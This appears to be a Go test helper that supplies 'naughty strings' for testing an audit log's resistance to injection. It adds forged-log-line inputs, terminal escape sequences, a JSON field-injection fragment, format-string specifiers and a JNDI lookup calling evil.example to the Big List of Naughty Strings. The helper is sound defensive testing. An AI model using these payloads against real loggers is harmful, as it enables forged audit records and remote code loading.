package audittest

import (
	_ "embed"
	"encoding/json"
	"strings"
	"testing"
)

//go:embed naughty.json
var naughty []byte

// Naughty returns texts that would end or fake a record where one is put together from text,
// that a terminal would obey, or that a storage would not give back: the 515 of the Big List
// of Naughty Strings (see NAUGHTY.md), and what it has not, such as bytes that are no text
// and 10 KiB (SECURITY LOG-03).
func Naughty(t testing.TB) []string {
	t.Helper()
	var list []string
	if err := json.Unmarshal(naughty, &list); err != nil || len(list) != 515 {
		t.Fatalf("%d naughty strings, %v", len(list), err)
	}
	return append(list,
		"a\rb", "a\nb", "a\r\nb", "a\x1bb", "a\u2028b", "a\u2029b", "a\u0085b", "a\x00b", "\xff\xfe\xc0\xaf", "\u202eexe.txt", "a\x7fb",
		"\x1b[2J\x1b]0;title\x07", "x\n"+`{"msg":"audit","event":"login","outcome":"success"}`, `","outcome":"success","x":"`, "${jndi:ldap://evil.example/a}",
		`\`, `"`, "%s%n%x", strings.Repeat("x", 10<<10), strings.Repeat("ﷺ", 10<<10/3),
	)
}
